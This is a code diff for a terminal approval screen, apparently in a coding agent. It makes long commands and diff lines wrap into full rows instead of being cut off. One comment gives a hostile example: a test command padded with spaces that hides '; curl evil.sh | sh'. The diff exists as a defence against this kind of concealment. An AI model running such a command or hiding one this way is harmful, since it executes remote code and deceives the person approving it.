@@ -1,18 +1,20 @@
 import type { PermissionChoice } from 'dsh-user-interaction/provider';
 import type { TerminalStyle } from '../../text/terminal-style.js';
-import { truncateText } from '../../text/text-width.js';
+import { cutIntoRows, truncateText } from '../../text/text-width.js';
 import type { ScreenSize } from '../menu/render-menu.js';
 import { isKey, type KeyPress, typedText } from '../terminal/key.js';
-import { type ApprovalView, styledBodyLine } from './approval-view.js';
+import { type ApprovalView, type BodyLine, styledBodyLine } from './approval-view.js';
 
 /** Where the person is on the approval screen. */
 export interface ApprovalState {
   /** The focused choice. */
   readonly focus: number;
-  /** The first line of the body on screen. */
+  /** The first row of the body on screen. */
   readonly scroll: number;
-  /** Lines of the body the last frame showed: what a page is. */
+  /** Rows of the body the last frame showed: what a page is. */
   readonly page: number;
+  /** The last row the body can scroll to, in the last frame. */
+  readonly bottom: number;
 }
 
 /** How the screen ends: a choice, or the person dismissing it (Ctrl+C cancels the turn). */
@@ -20,7 +22,7 @@ export type ApprovalOutcome =
   | { readonly kind: 'choice'; readonly choice: PermissionChoice }
   | { readonly kind: 'cancel' };
 
-export const INITIAL_APPROVAL_STATE: ApprovalState = { focus: 0, scroll: 0, page: 1 };
+export const INITIAL_APPROVAL_STATE: ApprovalState = { focus: 0, scroll: 0, page: 1, bottom: 0 };
 
 function chosen(view: ApprovalView, index: number): ApprovalOutcome | undefined {
   const choice = view.choices[index];
@@ -39,7 +41,7 @@ function approvalKey(
     state: { ...state, focus: Math.min(Math.max(focus, 0), last) },
   });
   const scroll = (by: number) => ({
-    state: { ...state, scroll: Math.max(0, Math.min(state.scroll + by, view.body.length - 1)) },
+    state: { ...state, scroll: Math.max(0, Math.min(state.scroll + by, state.bottom)) },
   });
   if (isKey(key, 'c', { ctrl: true })) return { state, outcome: { kind: 'cancel' } };
   // A lone Esc may come decoded with `meta` set.
@@ -87,10 +89,56 @@ export function approvalKeys(
   return { state: current };
 }
 
+/** A row of the body on screen: a line of the body, or the part of it that did not fit above. */
+type BodyRow = BodyLine & { readonly continued: boolean };
+
+/** Each view's body rows for the last width drawn: a keypress does not cut the body again. */
+const rowsOfViews = new WeakMap<ApprovalView, { width: number; rows: readonly BodyRow[] }>();
+
+/** Whether a body line starts with a diff mark (`+`, `-`, a space), kept in its first column. */
+function marked(line: BodyLine): boolean {
+  return line.kind === 'added' || line.kind === 'removed' || line.kind === 'context';
+}
+
+/**
+ * The body in rows of `width` columns. Each line is cut into as many rows as it needs, never
+ * shortened: what runs or is written, and where, must reach the screen whole, where a line cut
+ * with `…` hid the end of `npm test<200 spaces>; curl evil.sh | sh`. A command's rows start
+ * after its `$ `, a diff line's after its mark, the others' after one space.
+ */
+function bodyRows(view: ApprovalView, width: number): readonly BodyRow[] {
+  const cached = rowsOfViews.get(view);
+  if (cached !== undefined && cached.width === width) return cached.rows;
+  const rows: BodyRow[] = [];
+  for (const line of view.body) {
+    const mark = marked(line) ? line.text.slice(0, 1) : '';
+    const text = line.text.slice(mark.length);
+    const pieces = cutIntoRows(text, width - (line.kind === 'command' ? 2 : 1));
+    pieces.forEach((piece, index) => {
+      rows.push({
+        kind: line.kind,
+        text: index === 0 ? mark + piece : piece,
+        continued: index > 0,
+      });
+    });
+  }
+  rowsOfViews.set(view, { width, rows });
+  return rows;
+}
+
+/** A body row, styled; a continued row is indented under the text of its line. */
+function styledBodyRow(row: BodyRow, style: TerminalStyle): string {
+  if (!row.continued) return styledBodyLine(row, style);
+  if (row.kind === 'command') return `  ${style.bold(row.text)}`;
+  // Styled as its line, without the `$ ` a command's first row has.
+  return ` ${styledBodyLine(row, style)}`;
+}
+
 /**
  * The frame: the title, the kind and paths, the body (the command or the diff) in a window
- * that scrolls, the choices with their keys, and the hints. Lines are cut, never wrapped, so
- * a long line of a diff cannot push the choices off the screen.
+ * that scrolls, the choices with their keys, and the hints. The title and the choices are cut
+ * to one line each; the body's lines are cut into rows, so a long line is seen whole and the
+ * choices stay on the screen.
  */
 export function renderApproval(
   view: ApprovalView,
@@ -117,17 +165,17 @@ export function renderApproval(
   );
   const fixed = head.length + 1 + choices.length + 1 + 1;
   const room = Math.max(1, size.rows - 1 - fixed);
-  const body = view.body;
+  const body = bodyRows(view, width - 2);
   let lines: string[] = [];
   let page = room;
   let scroll = 0;
+  let bottom = 0;
   if (body.length > 0) {
     const scrolls = body.length > room;
     page = scrolls ? Math.max(1, room - 1) : room;
-    scroll = Math.min(state.scroll, Math.max(0, body.length - page));
-    lines = body
-      .slice(scroll, scroll + page)
-      .map((line) => `  ${styledBodyLine({ ...line, text: cut(line.text, width - 2) }, style)}`);
+    bottom = Math.max(0, body.length - page);
+    scroll = Math.min(state.scroll, bottom);
+    lines = body.slice(scroll, scroll + page).map((row) => `  ${styledBodyRow(row, style)}`);
     if (scrolls) {
       const end = Math.min(body.length, scroll + page);
       lines.push(
@@ -139,6 +187,6 @@ export function renderApproval(
   }
   return {
     lines: [...head, ...(lines.length > 0 ? ['', ...lines] : []), '', ...choices, hint],
-    state: { ...state, scroll, page },
+    state: { ...state, scroll, page, bottom },
   };
 }
